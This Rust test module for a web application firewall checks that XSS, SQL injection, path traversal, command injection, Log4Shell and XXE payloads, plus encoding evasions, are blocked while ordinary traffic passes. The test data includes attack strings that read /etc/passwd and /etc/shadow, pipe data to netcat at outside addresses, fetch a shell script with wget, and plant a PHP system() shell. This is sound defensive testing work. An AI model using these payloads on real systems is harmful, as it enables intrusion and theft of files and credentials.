//! Rule-level tests: each family catches its classic shapes (including the
//! evasions the decoders exist for) and ordinary traffic passes.

use gatehouse_config::waf::{check, Waf as WafFile, WafPolicy};
use http::HeaderMap;

use super::{RequestInput, Verdict, Waf};

fn policy(yaml: &str) -> WafPolicy {
    let w: WafFile = serde_yaml_ng::from_str(yaml).expect("policy yaml");
    check(&w, "waf", &mut |p, m| panic!("{p}: {m}"))
}

fn waf(paranoia: u8) -> Waf {
    Waf::new(policy(&format!("{{paranoia: {paranoia}}}"))).expect("rules compile")
}

struct Req {
    method: &'static str,
    uri: String,
    headers: HeaderMap,
    body: Vec<u8>,
}

fn get(uri: &str) -> Req {
    let mut headers = HeaderMap::new();
    headers.insert("host", "example.com".parse().unwrap());
    headers.insert(
        "user-agent",
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
            .parse()
            .unwrap(),
    );
    headers.insert(
        "accept",
        "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"
            .parse()
            .unwrap(),
    );
    Req {
        method: "GET",
        uri: uri.to_string(),
        headers,
        body: Vec::new(),
    }
}

fn post(uri: &str, content_type: &str, body: &str) -> Req {
    let mut r = get(uri);
    r.method = "POST";
    r.headers
        .insert("content-type", content_type.parse().unwrap());
    r.headers
        .insert("content-length", body.len().to_string().parse().unwrap());
    r.body = body.as_bytes().to_vec();
    r
}

fn inspect(w: &Waf, r: &Req) -> Verdict {
    let input = RequestInput {
        method: r.method,
        raw_uri: r.uri.as_bytes(),
        version: http::Version::HTTP_11,
        host: None,
        headers: &r.headers,
        body: &r.body,
        body_truncated: false,
    };
    let path = r.uri.split('?').next().unwrap_or("/");
    w.inspect(&input, path)
}

#[track_caller]
fn assert_blocked(w: &Waf, r: &Req, family: &str) {
    let v = inspect(w, r);
    assert!(
        v.blocked,
        "not blocked: {} {:?}: {:#?}",
        r.uri,
        String::from_utf8_lossy(&r.body),
        v.detections
    );
    assert!(
        v.detections.iter().any(|d| d.family == family),
        "no {family} detection for {}: {:#?}",
        r.uri,
        v.detections
    );
}

#[track_caller]
fn assert_passes(w: &Waf, r: &Req) {
    let v = inspect(w, r);
    assert!(
        !v.blocked && v.detections.is_empty(),
        "flagged {} {:?}: {:#?}",
        r.uri,
        String::from_utf8_lossy(&r.body),
        v.detections
    );
}

#[test]
fn every_paranoia_level_compiles() {
    for pl in 1..=4 {
        waf(pl);
    }
    assert!(super::catalog().len() > 100);
}

#[test]
fn classic_attacks_are_blocked_at_paranoia_one() {
    let w = waf(1);
    assert_blocked(&w, &get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"), "xss");
    assert_blocked(&w, &get("/?id=1%27%20OR%20%271%27=%271"), "sqli");
    assert_blocked(
        &w,
        &get("/?id=1%20UNION%20SELECT%20username,password%20FROM%20users"),
        "sqli",
    );
    assert_blocked(&w, &get("/?file=../../../../etc/passwd"), "lfi");
    assert_blocked(&w, &get("/?host=example.com;cat%20/etc/passwd"), "rce");
    assert_blocked(&w, &get("/?src=http://192.168.1.10/shell.txt"), "rfi");
    assert_blocked(&w, &get("/?x=%3C?php%20system($_GET[c]);"), "php");
    assert_blocked(&w, &get("/?x=$%7Bjndi:ldap://evil.example/a%7D"), "java");
    assert_blocked(&w, &get("/?__proto__[admin]=1"), "generic");
    assert_blocked(
        &w,
        &post("/api", "application/json", r#"{"q":"1' or '1'='1"}"#),
        "sqli",
    );
    assert_blocked(
        &w,
        &post(
            "/form",
            "application/x-www-form-urlencoded",
            "comment=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        ),
        "xss",
    );
}

#[test]
fn evasions_are_decoded() {
    let w = waf(1);
    // Double URL encoding.
    assert_blocked(
        &w,
        &get("/?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
        "xss",
    );
    // Mixed case.
    assert_blocked(&w, &get("/?q=%3CsCrIpT%3Ealert(1)%3C/ScRiPt%3E"), "xss");
    // SQL keywords split by comments.
    assert_blocked(
        &w,
        &get("/?id=1%20UN/**/ION%20SEL/**/ECT%201,2,3--"),
        "sqli",
    );
    assert_blocked(
        &w,
        &get("/?id=1/**/UNION/**/SELECT/**/password/**/FROM/**/users"),
        "sqli",
    );
    // Overlong UTF-8 for `../`.
    assert_blocked(&w, &get("/?f=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"), "lfi");
    // HTML entities hiding a javascript: URL.
    assert_blocked(
        &w,
        &post(
            "/f",
            "application/x-www-form-urlencoded",
            "u=ja%26Tab%3Bvascript%26colon%3Balert(1)",
        ),
        "xss",
    );
    // Shell quoting tricks.
    assert_blocked(&w, &get("/?h=x;c%27a%27t%20/e%22t%22c/pa%5Csswd"), "rce");
    // Header injection in a value.
    assert_blocked(
        &w,
        &get("/?next=%0d%0aSet-Cookie:%20session=evil"),
        "protocol_attack",
    );
}

#[test]
fn ordinary_traffic_passes_at_paranoia_one() {
    let w = waf(1);
    for uri in [
        "/",
        "/search?q=how+to+select+a+good+union+representative",
        "/search?q=don%27t+panic%3B+cat+lovers+unite",
        "/search?q=python+tutorial",
        "/products?sort=-created_at&page=2&filter%5Bcolor%5D=red",
        "/blog/2024/05/why-we-moved-to-rust",
        "/api/v1/items?ids=1,2,3&fields=name,price",
        "/search?q=C%2B%2B+templates+%26+generics+(part+2)",
        "/wiki/Special:Search?search=Bash+(Unix+shell)",
        "/search?q=100%25+cotton+t-shirt",
    ] {
        assert_passes(&w, &get(uri));
    }
    assert_passes(
        &w,
        &post(
            "/api/orders",
            "application/json",
            r#"{"customer":{"name":"O'Brien","email":"ob@example.com"},"items":[{"sku":"A-1","qty":2,"note":"Leave it at the door; don't ring."}],"total":19.99,"gift":false,"created_at":"2026-11-23T08:00:00Z"}"#,
        ),
    );
    assert_passes(
        &w,
        &post(
            "/contact",
            "application/x-www-form-urlencoded",
            "name=Jane+Doe&email=jane%40example.com&message=Hi%21+I+can%27t+log+in+since+the+update%3B+please+help.+%28Order+%2312345%29",
        ),
    );
}

#[test]
fn detect_mode_scores_but_never_blocks() {
    let w = Waf::new(policy("{mode: detect}")).unwrap();
    let v = inspect(&w, &get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"));
    assert!(!v.blocked);
    assert!(v.score >= 5 && !v.detections.is_empty());
}

#[test]
fn exclusions_switch_off_rules_per_path_and_variable() {
    let attack = "/search?q=%3Cscript%3Ealert(1)%3C/script%3E&other=1";
    // The whole path.
    let w = Waf::new(policy("{exclusions: [{path: /search}]}")).unwrap();
    assert_passes(&w, &get(attack));
    // One family on one argument: the same payload in another argument still blocks.
    let w = Waf::new(policy(
        "{exclusions: [{families: [xss], variables: ['args:q']}]}",
    ))
    .unwrap();
    assert_passes(&w, &get(attack));
    assert_blocked(
        &w,
        &get("/search?other=%3Cscript%3Ealert(1)%3C/script%3E"),
        "xss",
    );
    // One rule by id.
    let v = inspect(&Waf::new(policy("{mode: detect}")).unwrap(), &get(attack));
    let ids: Vec<u32> = v.detections.iter().map(|d| d.rule).collect();
    let rules = ids
        .iter()
        .map(|i| i.to_string())
        .collect::<Vec<_>>()
        .join(", ");
    let w = Waf::new(policy(&format!("{{exclusions: [{{rules: [{rules}]}}]}}"))).unwrap();
    assert_passes(&w, &get(attack));
    // Another path is unaffected.
    let w = Waf::new(policy("{exclusions: [{path: /search}]}")).unwrap();
    assert_blocked(
        &w,
        &get("/other?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        "xss",
    );
}

#[test]
fn detections_carry_rule_variable_and_fragment() {
    let v = inspect(
        &waf(1),
        &get("/?name=x&q=%3Cscript%3Ealert(1)%3C/script%3E"),
    );
    let d = v
        .detections
        .iter()
        .find(|d| d.family == "xss")
        .expect("xss");
    assert_eq!(d.variable, "args:q");
    assert!(d.fragment.to_ascii_lowercase().contains("script"), "{d:?}");
    assert!(d.rule / 1000 == 941);
}

#[test]
fn methods_and_content_types_are_enforced() {
    let w = waf(1);
    let mut r = get("/");
    r.method = "PROPFIND";
    assert_blocked(&w, &r, "method");
    assert_blocked(&w, &post("/", "application/x-foo", "x"), "protocol");
    assert_passes(&w, &post("/", "application/json", "{}"));
}

/// Tuning aid: which rules fire on the benign corpus (`cargo test -p
/// gatehouse-proxy --lib benign_corpus_histogram -- --ignored --nocapture`).
#[test]
#[ignore]
fn benign_corpus_histogram() {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../benches/waf/benign/requests.jsonl"
    );
    let text = std::fs::read_to_string(path).expect("benign corpus");
    let w = Waf::new(policy("{mode: detect}")).unwrap();
    let mut counts: std::collections::BTreeMap<u32, (usize, Vec<String>)> = Default::default();
    for line in text.lines() {
        let v: serde_json::Value = serde_json::from_str(line).unwrap();
        let mut headers = HeaderMap::new();
        for h in v["headers"].as_array().unwrap() {
            let (Some(n), Some(val)) = (h[0].as_str(), h[1].as_str()) else {
                continue;
            };
            if let (Ok(n), Ok(val)) = (
                http::HeaderName::from_bytes(n.as_bytes()),
                http::HeaderValue::from_str(val),
            ) {
                headers.append(n, val);
            }
        }
        let text_body = v["body"].as_str().unwrap_or("");
        let body = if v["body_encoding"] == "base64" {
            use base64::Engine;
            base64::engine::general_purpose::STANDARD
                .decode(text_body)
                .unwrap()
        } else {
            text_body.as_bytes().to_vec()
        };
        let r = Req {
            method: Box::leak(v["method"].as_str().unwrap().to_string().into_boxed_str()),
            uri: v["uri"].as_str().unwrap().to_string(),
            headers,
            body,
        };
        let verdict = inspect(&w, &r);
        if verdict.score >= 5 {
            for d in verdict.detections {
                let e = counts.entry(d.rule).or_default();
                e.0 += 1;
                if e.1.len() < 4 {
                    e.1.push(format!(
                        "{} [{}] {:?}",
                        d.variable,
                        d.fragment,
                        &r.uri[..r.uri.len().min(100)]
                    ));
                }
            }
        }
    }
    for (rule, (n, samples)) in counts {
        println!("{rule}: {n}");
        for s in samples {
            println!("    {s}");
        }
    }
}

/// Tuning aid: every regex rule's prefilter clauses.
/// `cargo test -p gatehouse-proxy --lib waf_atoms -- --ignored --nocapture`
#[test]
#[ignore]
fn waf_atoms() {
    for r in super::rules::all() {
        if let super::rules::Kind::Regex(_, p) = &r.kind {
            match super::atoms::filter(p) {
                Some(clauses) => {
                    let shown: Vec<String> = clauses
                        .iter()
                        .map(|c| {
                            c.iter()
                                .map(|set| {
                                    let atoms: Vec<_> = set
                                        .iter()
                                        .take(6)
                                        .map(|a| String::from_utf8_lossy(a))
                                        .collect();
                                    format!("{}({})", atoms.join("|"), set.len())
                                })
                                .collect::<Vec<_>>()
                                .join(" & ")
                        })
                        .collect();
                    println!("{} {}", r.id, shown.join("  OR  "));
                }
                None => println!("{} NONE", r.id),
            }
        }
    }
}

#[test]
#[ignore]
fn waf_automaton_size() {
    for pl in 1..=4u8 {
        let set = super::ruleset::RuleSet::debug_compile(pl);
        println!("pl{pl}: {set}");
    }
}

/// A JSON body cut by the inspection limit after more than the input cap:
/// the failed walk takes back its problems too, so the raw fallback is not
/// blamed for too many inputs it never kept.
#[test]
fn a_truncated_json_walk_leaves_no_problems_behind() {
    let mut headers = http::HeaderMap::new();
    headers.insert("content-type", "application/json".parse().unwrap());
    let mut body = b"[".to_vec();
    for i in 0..1200 {
        // Three members: the cap falls inside an object.
        body.extend_from_slice(format!("{{\"a\":{i},\"b\":\"x\",\"c\":\"y\"}},").as_bytes());
    }
    body.extend_from_slice(b"{\"a\":1,\"b"); // cut mid-object
    let req = super::input::RequestInput {
        method: "POST",
        raw_uri: b"/orders",
        version: http::Version::HTTP_11,
        host: None,
        headers: &headers,
        body: &body,
        body_truncated: true,
    };
    let arena = bumpalo::Bump::new();
    let parsed = super::input::parse(&req, &arena);
    assert!(
        !parsed
            .problems
            .contains(&super::input::Problem::TooManyInputs),
        "{:?}",
        parsed.problems
    );
}

/// Numbers in JSON bodies are still looked at for overflow probes.
#[test]
fn json_integer_overflow_probes_are_detected() {
    let w = waf(1);
    let r = post("/api", "application/json", r#"{"id":4294967296}"#);
    assert_blocked(&w, &r, "sqli");
    assert_passes(
        &w,
        &post("/api", "application/json", r#"{"id":4294967,"price":4.95}"#),
    );
}

/// The re-encoded atom automaton reports exactly what an overlapping
/// `aho-corasick` search over the same atoms does, at every paranoia level,
/// on attacks, prose, mixed case and bytes outside every atom.
#[test]
fn the_atom_scanner_finds_what_aho_corasick_finds() {
    let texts: [&[u8]; 6] = [
        b"1' UNION SELECT password FROM users-- -",
        b"<ScRiPt>alert(document.cookie)</script><img src=x onerror=alert(1)>",
        b";cat /etc/passwd | nc 10.0.0.1 4444 && wget http://x/sh",
        b"Leave it with the neighbour if nobody's home; thanks! (size 42 / UK 8)",
        b"\x00\xff caf\xc3\xa9 ${jndi:ldap://x} {{7*7}} ../../../../windows/win.ini",
        &[
            0, 1, 2, 0xff, 0xfe, b'S', b'e', b'L', b'e', b'C', b'T', 0x80, b'(',
        ],
    ];
    for pl in 1..=4u8 {
        for text in texts {
            let [found, expected] = super::ruleset::RuleSet::debug_scan(pl, text);
            assert!(!expected.is_empty(), "pl{pl}: no atom in {text:?}");
            assert_eq!(found, expected, "pl{pl}: {}", String::from_utf8_lossy(text));
        }
    }
}

/// 920015 looks for `\uXXXX` where nothing decodes it: the query, form
/// fields and headers of a request whose body is not JSON. An uploaded
/// file's contents are data (a script or JSON file is full of them), and a
/// JSON request is left alone entirely, as in CRS.
#[test]
fn unicode_escapes_count_in_fields_not_in_uploaded_files() {
    let w = waf(1);
    let rule = |r: &Req| inspect(&w, r).detections.iter().any(|d| d.rule == 920015);
    assert!(rule(&post(
        "/",
        "application/x-www-form-urlencoded",
        "a=%5Cu0061lert"
    )));
    assert!(rule(&get("/?q=%5Cu0065val")));
    let mut header = get("/");
    header.headers.insert("x-note", r"\u0041".parse().unwrap());
    assert!(rule(&header));
    assert!(!rule(&post(
        "/?q=%5Cu0065val",
        "application/json",
        r#"{"a":"\\u0041"}"#
    )));
    let boundary = "b0undary";
    let upload = |file: &str| {
        format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nnotes\r\n\
             --{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"i18n.js\"\r\n\
             Content-Type: application/javascript\r\n\r\n{file}\r\n--{boundary}--\r\n"
        )
    };
    let content_type = format!("multipart/form-data; boundary={boundary}");
    let file = r#"export const e = "caf\u00e9";"#;
    assert!(!rule(&post("/upload", &content_type, &upload(file))));
    let field = upload("x").replace("notes", r"\u0061lert");
    assert!(rule(&post("/upload", &content_type, &field)));
}

/// An exclusion naming inputs narrows request-level checks too: the
/// excluded argument no longer counts, the others still do.
#[test]
fn exclusions_with_variables_narrow_request_level_checks() {
    let w = Waf::new(policy(
        "{paranoia: 1, exclusions: [{rules: [920015], variables: ['args:code']}]}",
    ))
    .unwrap();
    let rule = |r: &Req| inspect(&w, r).detections.iter().any(|d| d.rule == 920015);
    assert!(!rule(&get("/?code=%5Cu0041")));
    assert!(rule(&get("/?code=%5Cu0041&note=%5Cu0042")));
    let w = Waf::new(policy(
        "{paranoia: 1, exclusions: [{rules: [921009], variables: ['headers:content-type']}]}",
    ))
    .unwrap();
    let two_types = post("/", "text/plain; x=application/json", "hi");
    let fires = |w: &Waf| {
        inspect(w, &two_types)
            .detections
            .iter()
            .any(|d| d.rule == 921009)
    };
    assert!(!fires(&w));
    assert!(fires(&waf(1)));
}

/// Mutated requests of every body type the WAF parses (JSON, forms,
/// multipart, XML, NDJSON) and their headers and query strings: inspection
/// returns a verdict for each, whatever the bytes, and never panics. The
/// parsers are third-party code (serde_json, multer, quick-xml,
/// libinjectionrs); a seeded generator keeps failures reproducible.
#[test]
fn mutated_requests_never_panic() {
    let seeds: [(&str, &str); 6] = [
        ("application/json", r#"{"a":[1,"x\u0041",{"b":null,"c":"' OR 1=1--"}],"d":{"e":"<svg onload=x>"}}"#),
        ("application/x-www-form-urlencoded", "q=%3Cscript%3E&x=1%20union%20select&y=%u0041&z=%zz&&=&a[b]=c"),
        (
            "multipart/form-data; boundary=XyZ",
            "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\nContent-Type: text/plain\r\n\r\n<?php system($_GET['c']); ?>\r\n--XyZ\r\nContent-Disposition: form-data; name=\"t\"\r\n\r\n../../etc/passwd\r\n--XyZ--\r\n",
        ),
        ("application/xml", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a x=\"1\"><b>&e;</b><![CDATA[<script>]]></a>"),
        ("application/x-ndjson", "{\"a\":\"b\"}\n{\"c\":[\"d\"]}\n"),
        ("text/plain", "sleep(5); cat /etc/shadow | nc 1.2.3.4 80"),
    ];
    let mut state = 0x9e37_79b9_7f4a_7c15u64;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let interesting: &[u8] = b"\"\\{}[]<>&=%;:,'\x00\xff\xc0\r\n-*/()$u";
    for w in [waf(1), waf(4)] {
        for round in 0..600 {
            let (content_type, seed) = seeds[round % seeds.len()];
            let mut body = seed.as_bytes().to_vec();
            for _ in 0..1 + next() % 8 {
                let at = (next() as usize) % (body.len() + 1);
                match next() % 4 {
                    0 if at < body.len() => {
                        body[at] = interesting[next() as usize % interesting.len()]
                    }
                    1 => body.insert(at, interesting[next() as usize % interesting.len()]),
                    2 if at < body.len() => {
                        body.remove(at);
                    }
                    _ => {
                        let end = (at + (next() as usize % 16)).min(body.len());
                        let chunk = body[at..end].to_vec();
                        body.splice(at..at, chunk);
                    }
                }
            }
            let mut r = post("/api?x=1", content_type, "");
            r.body = body;
            // The query and a header get the same bytes, as far as they can
            // travel in a request line and a header value.
            let printable: String = r
                .body
                .iter()
                .filter(|b| b.is_ascii_graphic())
                .map(|&b| b as char)
                .collect();
            r.uri = format!("/api?v={}", printable.replace(['#', ' '], ""));
            if let Ok(v) = http::HeaderValue::from_str(&printable) {
                r.headers.insert("x-mutated", v);
            }
            let verdict = inspect(&w, &r);
            assert!(
                verdict.score
                    >= verdict
                        .detections
                        .iter()
                        .map(|d| d.score)
                        .max()
                        .unwrap_or(0)
            );
        }
    }
}

/// Rules anchored at the start of a value (932002: a command after leading
/// whitespace) fire there and only there, however long the whitespace and
/// however many command names follow it (each occurrence must not rescan
/// the whitespace before it).
#[test]
fn start_anchored_rules_look_where_leading_whitespace_ends() {
    let w = waf(1);
    let fires = |value: &str| {
        let body = format!("a={value}");
        let r = post("/", "application/x-www-form-urlencoded", &body);
        inspect(&w, &r).detections.iter().any(|d| d.rule == 932002)
    };
    assert!(fires("cat%20/etc/passwd"));
    assert!(fires(&format!("{}cat%20/etc/passwd", "%0B".repeat(50))));
    assert!(!fires("x%20cat%20/etc/passwd"));
    let long = format!("{}!{}", "%0B".repeat(20_000), "dd%20".repeat(20_000));
    assert!(!fires(&long));
}
